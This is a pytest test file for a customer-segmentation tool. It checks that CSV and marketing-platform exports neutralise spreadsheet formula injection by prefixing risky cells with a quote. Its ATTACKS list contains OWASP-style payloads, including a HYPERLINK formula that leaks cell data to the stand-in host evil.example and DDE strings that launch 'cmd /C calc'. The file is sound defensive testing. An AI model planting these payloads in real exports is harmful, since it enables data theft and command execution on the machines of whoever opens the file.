"""CSV formula injection: every CSV shopseg writes is safe to open in a spreadsheet (issue 14, defect 3).

The attack strings are OWASP's "CSV Injection" examples; the rule (a leading ``'``
before cells starting with ``= + - @``, tab or CR) is OWASP's recommendation.
"""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from typer.testing import CliRunner

from shopseg.cli.main import app
from shopseg.export import export_segment
from shopseg.export.spreadsheet import neutralise_formulas
from shopseg.segments.audience import segment_customer_ids
from shopseg.workspace import Workspace

runner = CliRunner()
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ATTACKS = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


def test_formula_cells_get_a_leading_quote_and_nothing_else_changes():
    table = pd.DataFrame(
        {
            "city": ATTACKS + ["Berlin", None],
            "text_number": ["-12.5", "+3", "1e-3", "-", "=", "a=b", "x@y.example", "", "0"],
            "amount": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0],
        }
    )
    safe = neutralise_formulas(table)
    assert safe["city"].tolist()[: len(ATTACKS)] == ["'" + a for a in ATTACKS]
    assert safe["city"].iloc[-2] == "Berlin" and pd.isna(safe["city"].iloc[-1])
    assert safe["text_number"].tolist() == ["-12.5", "+3", "1e-3", "'-", "'=", "a=b", "x@y.example", "", "0"]
    assert safe["amount"].tolist() == table["amount"].tolist()
    assert table["city"].iloc[0] == HYPERLINK  # the input is not modified


@pytest.fixture
def poisoned(action_ws: Workspace) -> tuple[Workspace, str]:
    """A consented Champion whose city and country are formulas."""
    members, _ = segment_customer_ids(action_ws, "Champions")
    victim = action_ws.con.execute(
        "SELECT customer_id FROM customers WHERE email_marketing AND email IS NOT NULL AND list_contains(?, customer_id) "
        "ORDER BY customer_id LIMIT 1",
        [members],
    ).fetchone()[0]
    action_ws.con.execute(
        "UPDATE customers SET city = ?, country = '@SUM(1+9)' WHERE customer_id = ?", [HYPERLINK, victim]
    )
    return action_ws, victim


def _cells(path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


@pytest.mark.parametrize("fmt", ["csv", "klaviyo"])
def test_exports_neutralise_formulas_and_keep_emails(poisoned, tmp_path, fmt):
    ws, victim = poisoned
    audience, path = export_segment(ws, "Champions", fmt=fmt, out=tmp_path / f"a.{fmt}.csv", min_size=1)
    cells = _cells(path)
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    emails = audience.included["email"].str.strip().tolist()
    assert set(emails) <= set(cells)  # addresses are written unchanged
    assert "'@SUM(1+9)" in cells


def test_mailchimp_export_neutralises_a_formula_in_the_id(action_ws, tmp_path):
    members, _ = segment_customer_ids(action_ws, "Champions")
    victim = action_ws.con.execute(
        "SELECT customer_id FROM customers WHERE email_marketing AND list_contains(?, customer_id) ORDER BY 1 LIMIT 1",
        [members],
    ).fetchone()[0]
    for table in ("customers", "customer_rfm", "customer_features", "orders"):
        action_ws.con.execute(f"UPDATE {table} SET customer_id = '=1+1' WHERE customer_id = ?", [victim])
    _, path = export_segment(action_ws, "Champions", fmt="mailchimp", out=tmp_path / "m.csv", min_size=1)
    assert "'=1+1" in _cells(path) and "=1+1" not in _cells(path)


def test_raw_keeps_cells_verbatim_for_pipelines(poisoned, tmp_path):
    ws, _ = poisoned
    _, path = export_segment(ws, "Champions", out=tmp_path / "raw.csv", min_size=1, raw=True)
    assert HYPERLINK in _cells(path)


def test_cli_export_is_safe_by_default_and_raw_on_request(poisoned, tmp_path):
    ws, _ = poisoned
    path = ws.path
    ws.close()
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    res = runner.invoke(app, ["-w", str(path), "export", "Champions", "-o", str(safe), "--min-size", "1"])
    assert res.exit_code == 0, res.output
    res = runner.invoke(app, ["-w", str(path), "export", "Champions", "-o", str(raw), "--min-size", "1", "--raw"])
    assert res.exit_code == 0, res.output
    assert "'" + HYPERLINK in _cells(safe) and HYPERLINK in _cells(raw)


def test_report_regions_csv_is_neutralised(action_ws, tmp_path):
    action_ws.con.execute("UPDATE customers SET region = ? WHERE region IS NOT NULL", [HYPERLINK])
    path = action_ws.path
    action_ws.close()
    out = tmp_path / "regions.csv"
    res = runner.invoke(
        app, ["-w", str(path), "report", "regions", "--by", "region", "--period", "all", "--csv", str(out)]
    )
    assert res.exit_code == 0, res.output
    text = out.read_text(encoding="utf-8")
    assert "'" + HYPERLINK.replace('"', '""') in text
    assert next(csv.reader(io.StringIO(text.splitlines()[1])))[0] == "'" + HYPERLINK
